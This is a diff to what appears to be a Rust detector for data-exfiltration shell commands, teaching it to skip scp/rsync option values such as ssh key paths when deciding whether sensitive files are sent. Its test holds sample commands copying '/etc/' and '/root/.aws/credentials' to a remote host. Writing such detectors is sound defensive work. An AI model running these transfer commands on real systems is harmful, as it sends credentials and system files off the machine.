@@ -19,6 +19,42 @@ static SENSITIVE: Needles = Needles::new(&[
     "/home/",
 ]);
 
+/// scp, rsync and sftp options whose value is the next word (scp(1), rsync(1), sftp(1)).
+const TAKES_VALUE: &[&str] = &[
+    "-e",
+    "--rsh",
+    "-i",
+    "-o",
+    "-F",
+    "-S",
+    "-P",
+    "-l",
+    "-c",
+    "-J",
+    "-B",
+    "-D",
+    "-R",
+    "--rsync-path",
+    "--exclude",
+    "--include",
+    "--exclude-from",
+    "--include-from",
+    "--files-from",
+    "--filter",
+    "-f",
+    "--chown",
+    "--chmod",
+    "--log-file",
+    "--password-file",
+    "--port",
+    "--timeout",
+    "--bwlimit",
+    "-T",
+    "--temp-dir",
+    "--backup-dir",
+    "--suffix",
+];
+
 /// A destination where droppers stage payloads.
 fn staging(path: &str) -> bool {
     super::in_writable_dir(path)
@@ -85,7 +121,24 @@ pub fn detect(cx: &Ctx, out: &mut Findings) {
                 .rev()
                 .skip(1)
                 .any(|s| s.contains(':'));
-        let sensitive = a.iter().any(|x| SENSITIVE.any_in(x));
+        // What is sent: curl's arguments, or scp's and rsync's operands before the
+        // destination, without option values (`-e 'ssh -i /root/.ssh/backup_key'` names the
+        // key that opens the connection, not a file sent).
+        let sensitive = if matches!(p, "scp" | "rsync" | "sftp") {
+            let mut operands = Vec::new();
+            let mut words = a.iter();
+            while let Some(x) = words.next() {
+                if TAKES_VALUE.contains(&x.as_ref()) {
+                    words.next();
+                } else if !x.starts_with('-') {
+                    operands.push(x);
+                }
+            }
+            operands.pop();
+            operands.iter().any(|x| SENSITIVE.any_in(x))
+        } else {
+            a.iter().any(|x| SENSITIVE.any_in(x))
+        };
         let piped_in = c.joiner == crate::analysis::shell::Joiner::Pipe
             && a.iter().any(|x| x == "@-" || x.ends_with("=@-"));
         if piped_in {
@@ -204,5 +257,34 @@ mod tests {
             ]
         )
         .is_empty());
+    }
+
+    #[test]
+    fn an_identity_option_is_not_what_is_sent() {
+        let backup = [
+            "rsync",
+            "-az",
+            "-e",
+            "ssh -i /root/.ssh/k",
+            "/srv/www/",
+            "b@h:/b/",
+        ];
+        assert!(run(detect, &backup).is_empty());
+        let etc = [
+            "rsync",
+            "-az",
+            "-e",
+            "ssh -i /root/.ssh/k",
+            "/etc/",
+            "b@h:/b/",
+        ];
+        assert_eq!(run(detect, &etc), ["egress_file_transfer"]);
+        assert_eq!(
+            run(
+                detect,
+                &["scp", "-i", "/tmp/k", "/root/.aws/credentials", "x@h:"]
+            ),
+            ["egress_file_transfer"]
+        );
     }
 }
